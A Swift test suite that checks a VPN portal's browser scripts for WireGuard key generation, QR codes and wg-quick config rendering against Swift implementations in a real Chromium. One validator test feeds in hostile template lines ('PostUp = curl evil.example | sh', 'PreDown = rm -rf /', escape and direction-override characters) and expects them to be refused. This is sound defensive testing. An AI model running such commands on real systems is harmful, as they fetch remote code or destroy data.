import FerryCore
import FerryTestSupport
import Foundation
import QRCode
import Testing
import WireGuard

/// The portal's browser scripts (Sources/FerryServer/Resources/portal/js) in a real
/// Chromium, checked against the project's own code: keys made by WebCrypto against
/// WireGuard's X25519, QR codes against zbarimg and the Swift encoder, the downloaded
/// config against FerryCore's wg-quick parser. One browser for the suite, on the
/// development page dev/keys.html served from 127.0.0.1 under the portal's strict CSP.
@Suite("Portal scripts in Chromium", .serialized)
struct PortalScriptsBehaviourTests {
    static let portal = BuiltProducts.packageRoot.appendingPathComponent("Sources/FerryServer/Resources/portal").path

    /// The suite's browser on dev/keys.html; nil after a loud SKIPPED line.
    static let page: (browser: BrowserSession, base: String)? = {
        guard let browser = BrowserSession.start("portal scripts") else { return nil }
        do {
            let base = try browser.serve(portal)
            try browser.get(base + "dev/keys.html")
            return (browser, base)
        } catch {
            print("SKIPPED portal scripts: the development page did not load (\(error))")
            return nil
        }
    }()

    /// Runs `body`, the body of an async function with the modules `keys`, `qr` and
    /// `wgquick` and the array `args` in scope; returns what it returns (JSON values).
    static func run(_ browser: BrowserSession, _ body: String, _ args: [Any] = []) throws -> Any {
        let answer = try browser.asyncScript("""
            const done = arguments[arguments.length - 1];
            const args = arguments[0];
            Promise.all([import("/js/wgkeys.js"), import("/js/qrcode.js"), import("/js/wgquick.js")])
              .then(async ([keys, qr, wgquick]) => { \(body) })
              .then((value) => done({ value: value === undefined ? null : value }),
                    (error) => done({ error: String(error && error.stack || error) }));
            """, [args])
        let result = answer as? [String: Any]
        if let error = result?["error"] { throw BrowserSession.Failure(description: "in the page: \(error)") }
        return result?["value"] ?? NSNull()
    }

    // MARK: keys (js/wgkeys.js)

    @Test(.timeLimit(.minutes(6)))
    func generatedKeyPairsMatchWireGuardsX25519() throws {
        guard let browser = Self.page?.browser else { return }
        let pairs = try #require(try Self.run(browser, """
            const pairs = [];
            for (let i = 0; i < 20; i++) pairs.push(await keys.generateKeyPair());
            return pairs;
            """) as? [[String: String]])
        #expect(pairs.count == 20)
        for pair in pairs {
            let privateKey = try PrivateKey(base64: try #require(pair["privateKey"]))
            #expect(privateKey.publicKey.base64 == pair["publicKey"], "WireGuard's X25519 disagrees with WebCrypto's")
            // Clamped as `wg genkey` clamps.
            let bytes = privateKey.rawValue.bytes
            #expect(bytes[0] & 7 == 0 && bytes[31] & 0x80 == 0 && bytes[31] & 0x40 != 0)
        }
        #expect(Set(pairs.compactMap { $0["privateKey"] }).count == 20)
    }

    @Test(.timeLimit(.minutes(6)))
    func publicKeyForReenteredKeys() throws {
        guard let browser = Self.page?.browser else { return }
        // RFC 7748 section 6.1: Alice's and Bob's key pairs (the private keys are unclamped).
        let vectors = [
            ("77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a", "8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a"),
            ("5dab087e624a8a4b79e17f8b83800ee66f3bb1292618b6fd1c2f8b27ff88e0eb", "de9edb7d7b7dc1b4d35b61c2ece435373f8343c85b78674dadfc7e146f882b4f"),
        ]
        var privateKeys = try vectors.map { try PrivateKey(hex: $0.0) }
        var expected = try vectors.map { try PublicKey(hex: $0.1).base64 }
        // And keys the project generates, with a space around one as a paste leaves it.
        for _ in 0..<5 {
            let key = PrivateKey.generate()
            privateKeys.append(key)
            expected.append(key.publicKey.base64)
        }
        var inputs = privateKeys.map(\.base64)
        inputs[2] = "  " + inputs[2] + "\n"
        let derived = try #require(try Self.run(browser, "return Promise.all(args.map((k) => keys.publicKeyFor(k)));", inputs) as? [String])
        #expect(derived == expected)
    }

    @Test(.timeLimit(.minutes(6)))
    func keyValidationAgreesWithWireGuardsParser() throws {
        guard let browser = Self.page?.browser else { return }
        let good = PrivateKey.generate().base64
        let body = String(good.dropLast(2)), rest = String(good.dropFirst())
        var inputs: [String] = [good, "", "abc", String(good.dropLast()), good + "=", String(good.dropLast()) + "A"]
        inputs += [body + "B=", body + "A=", body + "E="] // B sets the last character's unused bits
        inputs += [rest + "=", "-" + rest, "_" + rest, "!" + rest, "é" + String(good.dropFirst(2))]
        inputs += [String(repeating: "A", count: 43) + "=", String(repeating: "/", count: 42) + "w="]
        let verdicts = try #require(try Self.run(browser, "return args.map((k) => keys.isValidKey(k));", inputs) as? [Bool])
        let swift = inputs.map { (try? PrivateKey(base64: $0)) != nil }
        #expect(verdicts == swift, "\(zip(inputs, zip(verdicts, swift)).filter { $0.1.0 != $0.1.1 })")
        #expect(swift.filter { $0 }.count >= 3, "the list holds valid keys too")
        let messages = try #require(try Self.run(browser, """
            return args.map((k) => { try { keys.decodeKey(k); return ""; } catch (e) { return e.name + ": " + e.message; } });
            """, ["abc", String(good.dropLast(2)) + "B="]) as? [String])
        #expect(messages == ["KeyError: a key is 44 characters of base64 (this has 3)",
                             "KeyError: not a canonical key (the last character's unused bits are set)"])
    }

    // MARK: QR codes (js/qrcode.js)

    /// wg-quick-sized texts: short, about 250, 450 and 900 bytes, with UTF-8 and `=`, `+`, `/`.
    static let qrTexts: [String] = {
        let line = "PublicKey = hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo=\n# Zoë's läptop → gw1 ✓ a+b/c=d\n"
        return ["[Interface]\n", String(repeating: line, count: 3), String(repeating: line, count: 5), String(repeating: line, count: 10)]
    }()

    @Test(.timeLimit(.minutes(6)))
    func qrCodesReadBackWithZbarimg() throws {
        guard let browser = Self.page?.browser else { return }
        guard let zbar = ZbarImg.executable else {
            Issue.record("zbarimg is not on PATH: install Debian's zbar-tools (scripts/install-test-deps.sh does)")
            return
        }
        #expect(Self.qrTexts.map(\.utf8.count).sorted() == Self.qrTexts.map(\.utf8.count))
        #expect(Self.qrTexts.last.map { $0.utf8.count > 850 } == true)
        let urls = try #require(try Self.run(browser, "return args.map((t) => qr.toPNGDataURL(t));", Self.qrTexts) as? [String])
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ferry-qrjs-\(UUID().uuidString.prefix(8))")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        var kept = false
        defer { if !kept { try? FileManager.default.removeItem(at: folder) } }
        for (index, (text, url)) in zip(Self.qrTexts, urls).enumerated() {
            let prefix = "data:image/png;base64,"
            #expect(url.hasPrefix(prefix))
            let png = try #require(Data(base64Encoded: String(url.dropFirst(prefix.count))))
            let file = folder.appendingPathComponent("text-\(index).png")
            try png.write(to: file)
            let (status, bytes) = try ZbarImg.read(file, executable: zbar)
            if status != 0 || bytes != Array(text.utf8) {
                kept = true
                Issue.record("zbarimg (exit \(status)) read \(bytes.count) bytes of \(text.utf8.count); image kept at \(file.path)")
            }
        }
    }

    /// Module for module the same symbol as the Swift encoder (Sources/QRCode), at every
    /// level: same version, same mask chosen by the penalty rules, same format and version
    /// information. The Swift encoder is proven by its own vectors and zbarimg round trips.
    @Test(.timeLimit(.minutes(6)))
    func symbolsEqualTheSwiftEncoders() throws {
        guard let browser = Self.page?.browser else { return }
        let texts = Self.qrTexts + [String(repeating: "x", count: 1200)] // versions 39 and 40 at H
        let levels: [(String, ErrorCorrection)] = [("L", .low), ("M", .medium), ("Q", .quartile), ("H", .high)]
        let symbols = try #require(try Self.run(browser, """
            const out = [];
            for (const level of ["L", "M", "Q", "H"]) for (const text of args) {
              const code = qr.encode(text, { level });
              out.push({ version: code.version, mask: code.mask, level: code.level, modules: code.modules.join("") });
            }
            return out;
            """, texts) as? [[String: Any]])
        #expect(symbols.count == levels.count * texts.count)
        var index = 0
        for (name, level) in levels {
            for text in texts {
                defer { index += 1 }
                guard index < symbols.count else { break }
                let js = symbols[index]
                let swift = try QRCode.encode(Array(text.utf8), correction: level, boostCorrection: false)
                let modules = (0..<swift.size).flatMap { y in (0..<swift.size).map { x in swift[x, y] ? "1" : "0" } }.joined()
                let context = "\(text.utf8.count) bytes at \(name)"
                #expect(js["version"] as? Int == swift.version, "\(context)")
                #expect(js["mask"] as? Int == swift.mask, "\(context)")
                #expect(js["level"] as? String == name, "\(context)")
                #expect(js["modules"] as? String == modules, "\(context): the modules differ")
            }
        }
        // The limits are the Swift encoder's, and a text over them is refused clearly.
        let limits = try #require(try Self.run(browser, """
            const out = {};
            for (const level of ["L", "M", "Q", "H"]) out[level] = qr.maximumBytes(level);
            try { qr.encode("a".repeat(out.M + 1)); out.tooLong = "accepted"; } catch (e) { out.tooLong = e.name + ": " + e.message; }
            return out;
            """) as? [String: Any])
        for (name, level) in levels { #expect(limits[name] as? Int == QRCode.maximumByteCount(correction: level)) }
        #expect(limits["tooLong"] as? String == "QRError: 2332 bytes are too many for a QR code at level M (at most 2331)")
    }

    // MARK: the config file (js/wgquick.js) and the page as a whole

    /// A device's config as ferryd renders it without a key (FerryCore's WGQuickConfig).
    static func template() throws -> (config: WGQuickConfig, text: String) {
        var interface = WGQuickConfig.Interface()
        interface.addresses = [try #require(IPPrefix("100.64.0.9/32"))]
        interface.dns = ["100.64.0.1", "ferry.internal"]
        interface.mtu = 1420
        var gateway = WGQuickConfig.Peer(publicKey: PrivateKey.generate().publicKey)
        gateway.allowedIPs = [try #require(IPPrefix("100.64.0.0/16")), try #require(IPPrefix("172.20.0.0/24"))]
        gateway.endpoint = HostPort("gw.example.com:51820")
        gateway.persistentKeepalive = 25
        gateway.comment = "gateway gw1"
        var other = WGQuickConfig.Peer(publicKey: PrivateKey.generate().publicKey)
        other.allowedIPs = [try #require(IPPrefix("100.64.0.12/32"))]
        other.comment = "peer zoë-desktop"
        let config = WGQuickConfig(interface: interface, peers: [gateway, other], comment: ["ferry network dev: peer zoë-laptop (p_123)"])
        return (config, config.render())
    }

    @Test(.timeLimit(.minutes(6)))
    func downloadedConfigHoldsTheKeyAndParses() throws {
        guard let page = Self.page else { return }
        let (browser, base) = page
        guard let zbar = ZbarImg.executable else {
            Issue.record("zbarimg is not on PATH: install Debian's zbar-tools (scripts/install-test-deps.sh does)")
            return
        }
        let (expected, template) = try Self.template()
        #expect(template.contains("# PrivateKey = <"), "ferryd's placeholder changed: js/wgquick.js must follow")
        try browser.get(base + "dev/keys.html")
        try browser.script("document.getElementById('template').value = arguments[0];", [template])
        try browser.type("#name", "zoë's laptop")
        try browser.click("#generate")
        let publicKey = try browser.wait("#public")
        #expect(try browser.text("#error") == "")
        try browser.click("#download")
        let file = try browser.download("zo-s-laptop.conf")
        let downloaded = try String(contentsOfFile: file, encoding: .utf8)
        let shown = try browser.script("return document.getElementById('config').textContent;") as? String
        #expect(downloaded == shown)

        // FerryCore's parser reads it; the key in it is the one whose public half was shown.
        let parsed = try WGQuickConfig(parsing: downloaded)
        let privateKey = try #require(parsed.interface.privateKey)
        #expect(privateKey.publicKey.base64 == publicKey)
        var want = expected
        want.interface.privateKey = privateKey
        want.comment = []
        for i in want.peers.indices { want.peers[i].comment = nil }
        #expect(parsed == want)
        // Everything else is the template, byte for byte.
        #expect(downloaded == template.replacingOccurrences(
            of: "# PrivateKey = <this device's private key: it never leaves the device>", with: "PrivateKey = \(privateKey.base64)"))

        // The QR code on the page holds the same file.
        let url = try #require(try browser.script("return document.getElementById('qr').toDataURL('image/png');") as? String)
        let png = try #require(Data(base64Encoded: String(url.dropFirst("data:image/png;base64,".count))))
        let image = FileManager.default.temporaryDirectory.appendingPathComponent("ferry-qrjs-page-\(UUID().uuidString.prefix(8)).png")
        try png.write(to: image)
        defer { try? FileManager.default.removeItem(at: image) }
        let (status, bytes) = try ZbarImg.read(image, executable: zbar)
        #expect(status == 0 && bytes == Array(downloaded.utf8), "the page's QR code read back as \(bytes.count) bytes")

        // Nothing the browser sent holds the private key (the page only loads its own files),
        // and the CSP had nothing to refuse.
        let requests = try browser.requests()
        #expect(!requests.isEmpty)
        for request in requests {
            let sent = "\(request["url"] ?? "") \(request["postData"] ?? "") \(request["headers"] ?? "")"
            #expect(!sent.contains(privateKey.base64), "a request carried the private key: \(request["url"] ?? "")")
            #expect(request["method"] as? String == "GET")
        }
        let console = try browser.console().compactMap { $0["message"] as? String }
        #expect(!console.contains { $0.contains("Content Security Policy") }, "\(console)")
        let shot = try browser.screenshot("portal-dev-keys")
        #expect(FileManager.default.fileExists(atPath: shot))

        // A new key (a rotation): the page offers a new file under the same name.
        try browser.click("#generate")
        let before = Date()
        try browser.click("#download")
        let again = try String(contentsOfFile: try browser.download("zo-s-laptop.conf", since: before), encoding: .utf8)
        let rotated = try #require(try WGQuickConfig(parsing: again).interface.privateKey)
        #expect(rotated != privateKey)
        #expect(rotated.publicKey.base64 == (try browser.text("#public")))
        try? FileManager.default.removeItem(atPath: file)
    }

    @Test(.timeLimit(.minutes(6)))
    func templatesOutOfShapeAreRefused() throws {
        guard let browser = Self.page?.browser else { return }
        let (_, template) = try Self.template()
        let placeholder = "# PrivateKey = <this device's private key: it never leaves the device>"
        let key = PrivateKey.generate().base64
        let cases: [(String, String)] = [
            (template.replacingOccurrences(of: "MTU = 1420", with: "MTU = 1420\nPostUp = curl evil.example | sh"), "line 7: PostUp runs commands"),
            (template.replacingOccurrences(of: placeholder, with: "PrivateKey = \(key)"), "line 3: the template already holds a private key"),
            (template.replacingOccurrences(of: placeholder, with: ""), "no PrivateKey placeholder in [Interface]"),
            (template + "\n[Peer]\n" + placeholder + "\nPublicKey = \(key)\n", "the PrivateKey placeholder is outside [Interface]"),
            (template.replacingOccurrences(of: "MTU = 1420", with: "MTU = 1420\n" + placeholder), "line 7: a second PrivateKey placeholder"),
            (template.replacingOccurrences(of: "MTU = 1420", with: "Mtu2 = 1420"), "line 6: unknown key 'Mtu2' in [Interface]"),
            (template.replacingOccurrences(of: "PersistentKeepalive = 25", with: "PersistentKeepalive = 25\nPreDown = rm -rf /"), "unknown key 'PreDown' in [Peer]"),
            (template.replacingOccurrences(of: "[Interface]", with: "[Interface]\n[Interface]"), "a second [Interface] section"),
            (template.replacingOccurrences(of: "[Interface]", with: "[Wat]"), "unknown section [Wat]"),
            (template.replacingOccurrences(of: "ferry.internal", with: "ferry.internal\u{1B}[2J"), "line 5: control or direction-changing characters"),
            (template.replacingOccurrences(of: "ferry.internal", with: "\u{202E}lanretni"), "control or direction-changing characters"),
            ("[Peer]\nPublicKey = \(key)\n", "[Peer] before [Interface]"),
            ("[Interface]\n" + placeholder + "\n[Peer]\nAllowedIPs = 10.0.0.0/8\n", "[Peer] without PublicKey"),
            ("[Interface]\n" + placeholder + "\n[Peer]\nPublicKey = \(key.dropLast(2))B=\n", "PublicKey: not a canonical key"),
            (String(repeating: "# filler line\n", count: 5000) + template, "over 65536 bytes"),
        ]
        let messages = try #require(try Self.run(browser, """
            const key = (await keys.generateKeyPair()).privateKey;
            return args.map((t) => { try { wgquick.renderConfig(t, key); return "accepted"; } catch (e) { return e.name + ": " + e.message; } });
            """, cases.map(\.0)) as? [String])
        #expect(messages.count == cases.count)
        for ((_, want), got) in zip(cases, messages) {
            #expect(got.hasPrefix("ConfigError: ") && got.contains(want), "wanted '\(want)', got '\(got)'")
        }
        // The template itself passes, a malformed key does not, and a file name is made safe for wg-quick.
        let good = try #require(try Self.run(browser, """
            const out = [];
            out.push(wgquick.renderConfig(args[0], (await keys.generateKeyPair()).privateKey).includes("\\nPrivateKey = "));
            try { wgquick.renderConfig(args[0], "nope"); out.push("accepted"); } catch (e) { out.push(e.name); }
            out.push(wgquick.configFilename("Zoë's very long laptop name"), wgquick.configFilename("../.."));
            return out;
            """, [template]) as? [Any])
        #expect(good.first as? Bool == true)
        #expect(good.dropFirst().compactMap { $0 as? String } == ["KeyError", "Zo-s-very-long.conf", "ferry.conf"])
    }
}
